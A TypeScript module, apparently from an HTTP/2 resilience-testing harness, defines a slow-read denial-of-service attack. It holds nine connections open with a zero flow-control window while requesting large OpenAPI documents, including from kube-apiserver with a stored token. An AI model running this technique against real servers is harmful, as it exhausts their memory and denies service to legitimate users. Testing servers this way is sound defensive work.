import type { Attack } from '../attack-definition.js';
import { IDLER_TOKENS, requestFields } from '../identities.js';
import { hoard } from './hoard.js';

const CONNECTIONS = 9;

export const unreadDocuments: Attack = {
  name: 'unread-documents',
  about: 'anonymous GETs of a large public document on 9 connections that never open a window: holds a copy of the document each',
  run: (attacker) =>
    attacker.lanes(CONNECTIONS, async () => {
      const connection = await attacker.http2({ initialWindow: 0 });
      // kube-apiserver has no Swagger UI, and shows its largest document to authenticated users only.
      const fields = attacker.isForeign
        ? requestFields('GET', '/openapi/v2', IDLER_TOKENS[0])
        : requestFields('GET', '/swagger/openapi.json');
      await hoard(attacker, connection, fields);
    }),
};
